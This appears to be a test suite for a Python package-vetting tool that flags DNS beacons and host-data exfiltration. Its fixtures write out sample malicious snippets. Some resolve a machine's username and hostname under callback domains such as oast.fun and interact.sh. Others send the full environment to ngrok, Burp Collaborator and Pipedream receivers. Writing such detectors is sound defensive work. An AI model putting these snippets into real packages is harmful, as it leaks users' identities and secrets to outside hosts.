"""DNS beacons: the host's identity resolved in a name under a domain written into the package.

Every package here is defanged source text built in memory: lexicon domains name the receiving services
(they are not registry hosts), other hosts are placeholders or TEST-NET addresses, and nothing is run."""

from __future__ import annotations

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.interface import PackageFeatures
from vetpy.features.source.beacon import BEACON_TOKEN, DNS_TOKEN, domain_in


def features(code: str) -> PackageFeatures:
    return extract_features(make_archive({"pkg/util.py": code}))


def tokens(code: str) -> set[str]:
    return set(features(code).code_text.split())


CONCAT = (
    "import socket, getpass\n"
    "def ping():\n"
    "    host = getpass.getuser() + '.' + socket.gethostname() + '.abc123.oast.fun'\n"
    "    socket.gethostbyname(host)\n"
)
FSTRING = (
    "import os, socket, platform\n"
    "DOMAIN = 'x9.duckdns.org'\n"
    "def check(a):\n"
    "    who = os.environ.get('USERNAME')\n"
    "    node = platform.node()\n"
    "    socket.getaddrinfo(f'{who}-{node}.{DOMAIN}', 53)\n"
    "    return a\n"
)
FORMAT = (
    "import dns.resolver, os\n"
    "def probe():\n"
    "    name = '{}.{}.c3.requestrepo.com'.format(os.getcwd().replace('/', '-'), os.getlogin())\n"
    "    dns.resolver.resolve(name, 'A')\n"
)
COMMAND = (
    "import os, getpass, subprocess\n"
    "def hello():\n"
    "    subprocess.run(['nslookup', '%s.q1.interact.sh' % getpass.getuser()], capture_output=True)\n"
)
MODULE_LEVEL = (
    "import os, uuid\nNAME = str(uuid.getnode()) + '.t.ngrok-free.app'\nos.system('ping -c 1 ' + NAME)\n"
)


@pytest.mark.parametrize(
    ("code", "line", "source_line", "host"),
    [
        (CONCAT, 4, 3, "abc123.oast.fun"),
        (FSTRING, 6, 4, "x9.duckdns.org"),
        (FORMAT, 4, 3, "c3.requestrepo.com"),
        (COMMAND, 3, 3, "q1.interact.sh"),
        (MODULE_LEVEL, 3, 2, "t.ngrok-free.app"),
    ],
)
def test_identity_in_a_name_resolved_under_a_beacon_domain(
    code: str, line: int, source_line: int, host: str
) -> None:
    found = features(code)
    [dns] = found.evidence_for(DNS_TOKEN)
    [beacon] = found.evidence_for(BEACON_TOKEN)
    assert (dns.file, dns.line) == ("demo-1.0/pkg/util.py", line) and beacon.line == line
    assert f"line {source_line})" in dns.message and host in dns.message
    assert {DNS_TOKEN, BEACON_TOKEN} <= set(found.code_text.split())


def test_identity_under_another_domain_is_a_flow_but_no_beacon() -> None:
    code = CONCAT.replace(".abc123.oast.fun", ".telemetry.example.net")
    found = features(code)
    [dns] = found.evidence_for(DNS_TOKEN)
    assert "telemetry.example.net" in dns.message and dns.line == 4
    assert found.evidence_for(BEACON_TOKEN) == ()


@pytest.mark.parametrize(
    "code",
    [
        # the host's own name, or its own name on the local network: honest look-ups
        "import socket\ndef ip():\n    return socket.gethostbyname(socket.gethostname())\n",
        "import socket, platform\ndef ip():\n    return socket.gethostbyname(platform.node() + '.local')\n",
        "import socket\ndef addrs():\n    return socket.getaddrinfo(socket.getfqdn(), None)\n",
        # a name from the caller, or a fixed name, next to the identity
        "import socket, getpass\ndef f(host):\n    u = getpass.getuser()\n"
        "    return socket.gethostbyname(host + '.x.oast.fun'), u\n",
        "import os, socket\ndef f():\n    print(os.getlogin())\n"
        "    return socket.gethostbyname('a.oast.fun')\n",
        # identity in one function, the look-up in another
        "import socket, getpass\ndef a():\n    n = getpass.getuser() + '.x.oast.fun'\n    return n\n"
        "def b(n):\n    return socket.gethostbyname(n)\n",
        # a resolve() that is not a DNS resolver's (no dnspython import)
        "import os\nfrom pathlib import Path\ndef f():\n    return Path(os.getcwd() + '/a.b').resolve()\n",
    ],
)
def test_honest_look_ups_are_no_flow(code: str) -> None:
    assert not {DNS_TOKEN, BEACON_TOKEN} & tokens(code)


def test_host_data_sent_over_http_to_a_beacon_receiver() -> None:
    code = (
        "import os, requests\n"
        "def sync():\n"
        "    requests.post('https://a1b2.ngrok-free.app/e', json=dict(os.environ))\n"
    )
    [beacon] = features(code).evidence_for(BEACON_TOKEN)
    assert beacon.line == 3 and "a1b2.ngrok-free.app (tunnel)" in beacon.message
    # the same data to a placeholder host: an exfiltration flow, no beacon
    assert BEACON_TOKEN not in tokens(code.replace("a1b2.ngrok-free.app", "sync.example.net"))


def test_bare_host_names_give_the_infra_token_of_their_url() -> None:
    assert "infra:oast" in tokens("X = 1\ndef f(u):\n    return u + '.abc123.oast.fun'\n")
    assert "infra:dyndns" in tokens("H = 'ab' + 'c.duckdns.org'\n")  # built from pieces
    plain = tokens("X = 'interact.sh'\nY = 'x.oast.fun.example.net'\n")
    assert not any(t.startswith("infra:") for t in plain)


def test_domain_in_prefers_the_lexicon_and_skips_local_names() -> None:
    assert domain_in(["{}.", "a.b.example.net", ".x.oast.fun"]) == ("x.oast.fun", "oast")
    assert domain_in(["node.local", "10.0.0.1"]) is None
    assert domain_in([".", "svc.example.org"]) == ("svc.example.org", None)


def test_watched_calls_are_look_ups_clipboard_calls_and_processes() -> None:
    from vetpy.features.source.beacon import watched

    assert watched("socket.gethostbyname") and watched("dns.resolver.resolve") and watched("*.resolve")
    assert watched("pyperclip.paste") and watched("subprocess.run") and watched("os.system")
    assert not watched("requests.get") and not watched("*.get") and not watched("socket.gethostname")


@pytest.mark.parametrize(
    "code",
    [
        # the destination in a local variable, the data the whole environment
        "import os, urllib.parse, urllib.request\ndef send():\n"
        "    data = urllib.parse.urlencode(dict(os.environ))\n    url = 'https://1a6b.ngrok-free.app'\n"
        "    urllib.request.urlopen(urllib.request.Request(url, data))\n",
        # a base in a local variable, the data in the query string
        "import os, urllib.request\ndef send():\n    base = 'http://y875.burpcollaborator.net'\n"
        "    url = f'{base}/?u={os.getlogin()}'\n    urllib.request.urlopen(url)\n",
        # at module level, built around the data
        "import os, requests\nsecret = str(os.environ)\ndata = 'https://eow8.m.pipedream.net/' + secret\n"
        "requests.get(data)\n",
    ],
)
def test_host_data_sent_to_a_destination_held_in_a_name(code: str) -> None:
    beacon = features(code).evidence_for(BEACON_TOKEN)[0]  # urlopen(Request(...)): two sends, one line
    assert "host data (" in beacon.message and beacon.line == code.count("\n")
    # the same destination under a placeholder domain: no beacon
    for host in ("1a6b.ngrok-free.app", "y875.burpcollaborator.net", "eow8.m.pipedream.net"):
        code = code.replace(host, "sync.example.net")
    assert BEACON_TOKEN not in tokens(code)
